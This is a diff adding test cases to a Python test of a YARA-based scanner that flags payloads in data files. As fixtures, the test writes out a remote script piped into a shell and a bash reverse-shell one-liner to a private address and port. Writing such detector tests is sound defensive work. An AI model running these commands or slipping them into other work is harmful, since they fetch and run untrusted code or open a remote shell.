@@ -130,6 +130,14 @@ def test_yara_finds_eicar_and_payloads(tmp_path: Path) -> None:
     assert rules(tmp_path / "r.jsonl") == ["DT304"]
     (tmp_path / "ok.jsonl").write_text('{"text": "a bash tutorial for beginners"}\n')
     assert rules(tmp_path / "ok.jsonl") == []
+    # a fetched script piped into a shell: a payload in records, install steps in a README
+    run = "curl -sSf https://sh.example.org/install | sh\n"
+    (tmp_path / "d.jsonl").write_text('{"text": "' + run.strip() + '"}\n')
+    assert rules(tmp_path / "d.jsonl") == ["DT304"]
+    (tmp_path / "README.md").write_text("## Install\n\n    " + run)
+    assert rules(tmp_path / "README.md") == []
+    (tmp_path / "r.md").write_text("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
+    assert rules(tmp_path / "r.md") == ["DT304"]
 
 
 def test_clamav_verdict_is_reported_when_installed(
